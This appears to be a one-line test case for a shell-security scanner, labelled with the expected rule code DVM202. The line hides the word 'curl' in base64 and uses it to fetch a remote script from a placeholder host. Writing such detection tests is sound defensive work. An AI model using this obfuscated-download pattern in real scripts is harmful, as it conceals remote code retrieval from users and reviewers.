# expect: DVM202
bash -c "$(echo 'Y3VybA==' | openssl base64 -d) https://x.example.org/i.sh"
